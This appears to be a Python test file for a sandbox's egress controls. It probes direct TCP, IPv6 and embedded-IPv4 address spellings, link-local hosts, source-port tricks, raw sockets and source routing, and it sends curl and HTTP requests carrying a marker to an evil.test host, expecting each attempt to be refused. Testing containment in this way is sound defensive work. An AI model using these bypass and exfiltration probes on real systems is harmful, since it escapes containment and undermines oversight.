"""A: going straight to an address."""
import os
import socket
import subprocess

from bed import (CANARY, CANARY6, MARKER, attempt, dial, get, hello, server_name, talk, told, listen_to, send,
                 trusting)

LEAK = f'GET /{MARKER} HTTP/1.1\r\nHost: {MARKER}.evil.test\r\n\r\n'.encode()


@attempt('A01', 'TCP to an address: a hello without a name, a hello for evil.test, HTTP, raw bytes', 'reset or a page that says why', door='cove')
def _(a):
    a.refused('no name', talk(CANARY, 443, hello()), 'reset')
    a.refused('a name', talk(CANARY, 443, hello(server_name('evil.test'))), 'reset')
    a.refused('http', talk(CANARY, 80, LEAK), '403 no_rule')
    a.refused('raw', talk(CANARY, 4444, MARKER.encode() + b'\r\n'), 'reset')
    a.record('no_name', 'no_rule', 'no_rule', 'no_name')


@attempt('A01', 'TCP to the canary with the name of an allowed server', 'the name decides: the allowed server answers, the address hears nothing', door='cove')
def _(a):
    s = socket.create_connection((CANARY, 443), 4)
    with trusting().wrap_socket(s, server_hostname='allowed.test') as t:
        send(t, get('allowed.test', '/by-address'))
        a.check('the allowed server answers', told(listen_to(t, 4, b'\r\n\r\n')) == '200')
    a.record('allowed')


@attempt('A01', 'TCP to ports of mail, SSH, databases, IRC, DNS over TLS', 'reset', door='cove')
def _(a):
    for port in (22, 25, 853, 3306, 5432, 6667, 65535):
        a.refused(str(port), talk(CANARY, port, b'\x00' + MARKER.encode() + b'\r\n'), 'reset')
        a.record('no_name')


@attempt('A02', 'curl without any proxy variable', 'the name does not exist')
def _(a):
    env = {k: v for k, v in os.environ.items() if not k.lower().endswith('_proxy')}
    r = subprocess.run(['curl', '-sS', '-m', '4', '--noproxy', '*', f'https://a02.{MARKER}.evil.test/'], env=env, capture_output=True)
    a.check(f'curl says {r.returncode}', r.returncode in (6, 7, 28, 35, 56))
    a.record('no_rule')


@attempt('A03', 'TCP to a global IPv6 address', 'reset', door='cove')
def _(a):
    a.refused('tls', talk(CANARY6, 443, hello()), 'reset')
    a.refused('http', talk(CANARY6, 80, LEAK), '403 no_rule')
    a.record('no_name', 'no_rule')


@attempt('A04', 'TCP to link-local addresses of the host\'s side', 'refused, or reset', door='cove')
def _(a):
    for ip in ('fe80::1', 'fe80::2'):
        for device in ('lo', 'eth0'):
            s = socket.socket(socket.AF_INET6)
            s.settimeout(3)
            try:
                s.connect((ip, 22, 0, socket.if_nametoindex(device)))
            except OSError as e:
                a.seen.append(str(e))
                continue
            send(s, MARKER.encode())
            a.refused(ip, told(listen_to(s)), 'reset')
            a.record('no_name')
    a.refused('169.254.1.1', talk('169.254.1.1', 22, MARKER.encode() + b'\n'), 'reset')
    a.record('no_name')


SPELLINGS = {'NAT64': '64:ff9b::cb00:710a', 'NAT64 local': '64:ff9b:1::cb00:710a', '6to4': '2002:cb00:710a::1', 'Teredo': '2001:0:cb00:710a::1',
             'compatible': '::203.0.113.10', 'ISATAP': 'fd00::5efe:cb00:710a'}


@attempt('A06', 'IPv4 inside IPv6: NAT64, 6to4, Teredo, compatible, mapped, dialled', 'reset', door='cove')
def _(a):
    for what, ip in SPELLINGS.items():
        a.refused(what, talk(ip, 443, hello()), 'reset')
        a.record('no_name')
    # The kernel itself sends a mapped address out as IPv4.
    a.refused('mapped', talk('::ffff:203.0.113.10', 443, hello()), 'reset')
    a.record('no_name')


@attempt('A06', 'IPv4 inside IPv6 as the AAAA answer for an allowed name', 'never dialled')
def _(a):
    for ip in list(SPELLINGS.values())[:5] + ['::ffff:203.0.113.10', '::ffff:0:203.0.113.10']:
        name = 'q-' + socket.inet_pton(socket.AF_INET6, ip).hex() + '.pkgs.test'
        try:
            with dial(name) as s:
                send(s, hello(server_name(name)))
                a.refused(ip, told(listen_to(s)))
        except Exception as e:
            a.seen.append(str(e))
        a.record('allowed>address_not_public')


@attempt('A11', 'source ports 53, 80 and 443', 'reset as from any other port', door='cove')
def _(a):
    for port in (53, 80, 443):
        outcome = talk(CANARY, 7000 + port, MARKER.encode() + b'\n', source=port)
        if outcome != 'unreachable':  # ports below 1024 are root's, but for what the sandbox allows
            a.refused(str(port), outcome, 'reset')
            a.record('no_name')


@attempt('A11', 'simultaneous open: two sockets that connect to each other\'s address', 'reset, or refused', door='cove')
def _(a):
    s = socket.socket()
    s.settimeout(3)
    s.bind(('0.0.0.0', 7443))
    try:
        s.connect((CANARY, 7443))
        send(s, MARKER.encode() + b'\n')
        a.refused('simultaneous', told(listen_to(s)), 'reset')
        a.record('no_name')
    except OSError as e:
        a.seen.append(str(e))


@attempt('A12', 'raw sockets for fragments; IP options that route', 'EPERM; with options no packet passes', door='cove')
def _(a):
    a.fails('raw IPv4', socket.socket, socket.AF_INET, socket.SOCK_RAW, 255)
    a.fails('raw IPv6', socket.socket, socket.AF_INET6, socket.SOCK_RAW, 255)
    for option, what in ((0x83, 'loose'), (0x89, 'strict')):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.setsockopt(socket.SOL_IP, 4, bytes([option, 7, 4]) + socket.inet_aton(CANARY) + b'\0')
            s.connect((CANARY, 7012))
        except OSError as e:
            a.seen.append(f'{what}: {e}')
            continue
        send(s, MARKER.encode() + b'\n')
        a.refused(what, told(listen_to(s)), 'reset')
        a.record('no_name|self|no_destination')
